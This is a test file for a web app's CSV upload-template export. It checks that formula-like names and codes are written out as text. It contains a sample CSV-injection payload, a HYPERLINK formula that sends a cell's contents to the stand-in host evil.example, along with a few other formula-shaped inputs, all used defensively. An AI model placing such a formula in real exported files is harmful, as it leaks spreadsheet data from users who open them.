// The upload page's template (upload_template, written as CSV by web/views/upload.js) holds indicator
// short names, location codes and campaign names that any metadata editor may set: one that a
// spreadsheet would run (`=HYPERLINK(…)`) must reach the file as text, never as a formula.
import { parse } from 'csv-parse/sync'
import t from 'tap'
import { build } from './helper.js'
import { client } from './api.js'
import { created, world } from './world.js'
import { templateCsv } from '../web/views/upload.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
const FORMULA_START = /^[=+\-@\t\r]/

t.test('a template whose short names, codes and campaign name start like formulas is written with every cell as text', async (t) => {
  const { app } = await build(t)
  const api = client(app)
  const w = await world(api)
  await created(api.post('/indicator/', { name: 'link', short_name: HYPERLINK, data_format: 'int' }))
  await created(api.post('/indicator/', { name: 'plus', short_name: '+1+1', data_format: 'int' }))
  t.equal((await api.patch(`/location/${w.a1}/`, { location_code: '@SUM(1,1)' })).status, 200)
  t.equal((await api.patch(`/campaign/${w.C}/`, { name: '-2+3' })).status, 200)

  const answer = await api.get(`/upload_template/?campaign_id=${w.C}`)
  t.equal(answer.status, 200, answer.text)
  const csv = templateCsv(answer.body.objects[0])
  // Read back as a spreadsheet reads a CSV: any cell starting with = + - @ would be run.
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat()
  const runnable = cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
  t.same(runnable, [], 'no cell a spreadsheet would run')
  t.ok(
    cells.some((cell) => cell.startsWith("'=HYPERLINK(")),
    'the short name is there, as text',
  )
})
